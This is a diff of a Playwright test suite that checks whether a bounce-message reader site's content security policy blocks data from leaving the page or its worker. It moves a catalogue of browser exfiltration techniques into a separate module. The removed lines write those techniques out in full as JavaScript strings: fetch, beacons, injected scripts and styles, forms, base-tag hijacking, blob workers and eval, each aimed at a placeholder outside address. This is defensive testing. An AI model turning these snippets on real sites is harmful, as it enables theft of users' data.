@@ -1,54 +1,8 @@
 import { expect, type Page, test, type Worker } from '@playwright/test';
+import { inPage, inWorker, openTo, type Ways } from './ways';
 
 // A service worker would answer in place of the server that counts what arrives.
 test.use({ serviceWorkers: 'block' });
-
-/** Ways to carry a text away that a page and a worker both have, as code; each answers whether it got through. */
-const both = {
-  fetch: 'fetch(to).then(() => true)',
-  'fetch that wants no answer': 'fetch(to, { method: "POST", mode: "no-cors", body: "mail", keepalive: true }).then(() => true)',
-  XMLHttpRequest:
-    'new Promise((done) => { const r = new XMLHttpRequest(); r.onload = () => done(true); r.onerror = () => done(false); r.open("POST", to); r.send("mail"); })',
-  WebSocket: 'new Promise((done) => { const s = new WebSocket(to.replace("http", "ws")); s.onopen = () => done(true); s.onerror = () => done(false); })',
-  EventSource: 'new Promise((done) => { const s = new EventSource(to); s.onopen = () => done(true); s.onerror = () => done(false); })',
-  'a worker made from a blob':
-    'new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ").then(() => postMessage(true), () => postMessage(false))"]))); w.onmessage = (e) => done(e.data); w.onerror = () => done(false); })',
-  'a string run as code': 'new Promise((done) => setTimeout(() => { try { done(new Function("return 1")() === 1); } catch { done(false); } }))', // Later, because the browser lets the test's own call do it.
-};
-
-const inWorker = {
-  ...both,
-  importScripts: 'Promise.resolve().then(() => { importScripts(to); return true; })',
-  import: 'import(to).then(() => true)',
-};
-
-const element = (name: string, values: string): string =>
-  `new Promise((done) => { const e = Object.assign(document.createElement(${JSON.stringify(name)}), ${values}); e.onload = () => done(true); e.onerror = () => done(false); document.body.append(e); setTimeout(() => done(false), 300); })`;
-
-const inPage = {
-  ...both,
-  beacon: 'Promise.resolve(navigator.sendBeacon(to, "mail")).then(() => false)',
-  image: element('img', '{ src: to }'),
-  script: element('script', '{ src: to }'),
-  'script in the page': element('script', '{ textContent: "fetch(" + JSON.stringify(to) + ")" }').replace('done(true)', 'done(false)'),
-  'style in the page': element('style', '{ textContent: "@import url(" + to + "); body { background: url(" + to + ") }" }').replace(
-    'done(true)',
-    'done(false)',
-  ),
-  stylesheet: element('link', '{ rel: "stylesheet", href: to }'),
-  frame: element('iframe', '{ src: to }').replace('done(true)', 'done(false)'),
-  video: element('video', '{ src: to, poster: to }'),
-  object: element('object', '{ data: to }').replace('done(true)', 'done(false)'),
-  form: 'new Promise((done) => { const f = Object.assign(document.createElement("form"), { action: to, method: "post", target: "_blank" }); document.body.append(f); f.submit(); setTimeout(() => done(false), 300); })',
-  prefetch: element('link', '{ rel: "prefetch", href: to }'),
-  'a worker from an address':
-    'new Promise((done) => { const w = new Worker(to); w.onmessage = () => done(true); w.onerror = () => done(false); setTimeout(() => done(false), 300); })',
-  'address of the base':
-    'new Promise((done) => { document.head.append(Object.assign(document.createElement("base"), { href: to })); fetch("x").then(() => done(true), () => done(false)); })',
-};
-
-/** Scripts of the site itself must load, so their addresses are open to the site’s own server, and to no other. */
-const ownScripts = ['script', 'stylesheet', 'import', 'prefetch'];
 
 async function arrivals(page: Page): Promise<string[]> {
   const seen: string[] = [];
@@ -61,7 +15,7 @@ async function arrivals(page: Page): Promise<string[]> {
 
 const run = (where: Page | Worker, code: string): Promise<unknown> => ('goto' in where ? where.evaluate(code) : where.evaluate(code));
 
-async function attempt(where: Page | Worker, ways: Readonly<Record<string, string>>, origin: string, allowed: readonly string[]): Promise<string[]> {
+async function attempt(where: Page | Worker, ways: Ways, origin: string, allowed: readonly string[]): Promise<string[]> {
   const got: string[] = [];
   for (const [name, code] of Object.entries(ways)) {
     if (allowed.includes(name)) continue;
@@ -77,13 +31,12 @@ async function attempt(where: Page | Worker, ways: Readonly<Record<string, strin
 
 for (const path of ['/bounce/', '/']) {
   for (const target of ['this site', 'another site']) {
+    const own = target === 'this site';
+
     test(`a text cannot get out of ${path} to ${target}`, async ({ page, baseURL }) => {
       const seen = await arrivals(page);
       await page.goto(path);
-      const own = target === 'this site';
-      // The home page may load its service worker, so the policy lets it load workers of the site.
-      const allowed = own ? [...ownScripts, ...(path === '/' ? ['a worker from an address'] : [])] : [];
-      expect(await attempt(page, inPage, own ? (baseURL ?? '') : 'http://192.0.2.1', allowed)).toEqual([]);
+      expect(await attempt(page, inPage, own ? (baseURL ?? '') : 'http://192.0.2.1', own ? openTo(path) : [])).toEqual([]);
       expect(seen).toEqual([]);
     });
 
@@ -94,8 +47,7 @@ for (const path of ['/bounce/', '/']) {
       await page.getByLabel('Paste your bounce').fill('550 5.1.1 User unknown');
       const reader = await started;
       await expect(page.getByRole('region', { name: 'Answer' })).toBeVisible();
-      const own = target === 'this site';
-      expect(await attempt(reader, inWorker, own ? (baseURL ?? '') : 'http://192.0.2.1', own ? ownScripts : [])).toEqual([]);
+      expect(await attempt(reader, inWorker, own ? (baseURL ?? '') : 'http://192.0.2.1', own ? openTo(path) : [])).toEqual([]);
       expect(seen).toEqual([]);
     });
   }
@@ -107,7 +59,20 @@ test('the ways do work where nothing holds them', async ({ page }) => {
   await page.goto('/open/');
   const got = await attempt(page, inPage, 'http://192.0.2.1', ['WebSocket', 'EventSource']);
   expect(got).toEqual(expect.arrayContaining(['fetch', 'XMLHttpRequest', 'a worker made from a blob', 'a string run as code', 'script', 'stylesheet']));
-  expect(seen.map((address) => address.split('?')[1])).toEqual(expect.arrayContaining(['fetch', 'beacon', 'image', 'frame', 'form', 'script in the page']));
+  expect(seen.map((address) => address.split('?')[1])).toEqual(
+    expect.arrayContaining(['fetch', 'beacon', 'image', 'frame', 'form', 'script in the page', 'cache', 'font']),
+  );
+});
+
+test('the ways of a worker do work where nothing holds them', async ({ page }) => {
+  const seen = await arrivals(page);
+  await page.route('**/open/', (route) => route.fulfill({ body: '<!doctype html><title>open</title><p>open', contentType: 'text/html' }));
+  await page.goto('/open/');
+  const started = page.waitForEvent('worker');
+  await page.evaluate('window.open = new Worker(URL.createObjectURL(new Blob(["onmessage = () => {}"])))');
+  const got = await attempt(await started, inWorker, 'http://192.0.2.1', ['WebSocket', 'EventSource']);
+  expect(got).toEqual(expect.arrayContaining(['fetch', 'XMLHttpRequest', 'a worker made from a blob', 'a string run as code', 'cache']));
+  expect(seen.map((address) => address.split('?')[1])).toEqual(expect.arrayContaining(['fetch', 'cache', 'font', 'importScripts', 'import']));
 });
 
 const marks = '\u0301'.repeat(100_000);
